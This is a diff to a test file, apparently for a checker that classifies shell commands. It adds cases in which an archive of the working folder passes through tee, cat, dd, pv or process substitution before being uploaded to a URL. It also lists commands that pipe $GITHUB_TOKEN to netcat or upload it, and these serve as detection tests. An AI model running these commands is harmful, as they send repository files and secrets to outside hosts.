@@ -144,6 +144,24 @@ table("lzip, a compressor of the registry now", [
   ["decompressed", `lzip -d x.lz`, ...OK],
 ]);
 
+table("an archive through a stage that copies its stdin, or read from a process substitution", [
+  ["a compressed archive through tee", `tar c . | gzip | tee /tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...EGRESS],
+  ["through tee, its stdout thrown away", `tar c . | gzip | tee /tmp/a.gz > /dev/null; ${PUT} /tmp/a.gz ${URL}`, ...EGRESS],
+  ["an archive through tee", `tar c . | tee /tmp/a.tar; ${PUT} /tmp/a.tar ${URL}`, ...EGRESS],
+  ["through cat", `tar c . | gzip | cat > /tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...EGRESS],
+  ["through cat -", `tar c . | gzip | cat - > /tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...EGRESS],
+  ["through dd of=", `tar c . | gzip | dd of=/tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...EGRESS],
+  ["through pv", `tar c . | pv > /tmp/a.tar; ${PUT} /tmp/a.tar ${URL}`, ...EGRESS],
+  ["a compressor fed by a process substitution", `gzip -c < <(tar c .) > /tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...EGRESS],
+  ["cat fed by a compressing process substitution", `cat < <(tar c . | gzip) > /tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...EGRESS],
+  ["a folder without keys through tee", `tar c src | gzip | tee /tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...TEMP],
+  ["a folder without keys through cat", `tar c src | gzip | cat > /tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...TEMP],
+  ["a folder without keys, a process substitution", `gzip -c < <(tar c src) > /tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...TEMP],
+  ["cat printing a file instead", `tar c . | gzip | cat README.md > /tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...TEMP],
+  ["dd reading a file instead", `tar c . | gzip | dd if=README.md of=/tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...TEMP],
+  ["text through tee", `echo hi | tee /tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...TEMP],
+]);
+
 // Not closed here (docs/check.md "Session 18: red team of the session's changes"): calls the
 // parse meets after it resolved the line's function arguments, stages the archive passes through,
 // stdin read by its path, and one false positive (an exec inside a subshell is kept for the line).
@@ -156,9 +174,6 @@ left("function calls read after the line", [
   ["xargs replacing {} in -c text", `xargs -I{} sh -c 'echo {} | ${NC}' <<< "$GITHUB_TOKEN"`, ...EGRESS],
 ]);
 left("archives and stdin through other stages", [
-  ["a compressed archive through tee", `tar c . | gzip | tee /tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...EGRESS],
-  ["through cat", `tar c . | gzip | cat > /tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...EGRESS],
-  ["a compressor fed by a process substitution", `gzip -c < <(tar c .) > /tmp/a.gz; ${PUT} /tmp/a.gz ${URL}`, ...EGRESS],
   ["a descriptor script through cat", `exec 3<<< env; cat /dev/fd/3 | bash | ${NC}`, ...EGRESS],
   ["dd if=/dev/stdin", `dd if=/dev/stdin of=/tmp/f <<< "$GITHUB_TOKEN"; ${PUT} /tmp/f ${URL}`, ...SECRET],
   ["cp /dev/stdin", `cp /dev/stdin /tmp/f <<< "$GITHUB_TOKEN"; ${PUT} /tmp/f ${URL}`, ...SECRET],
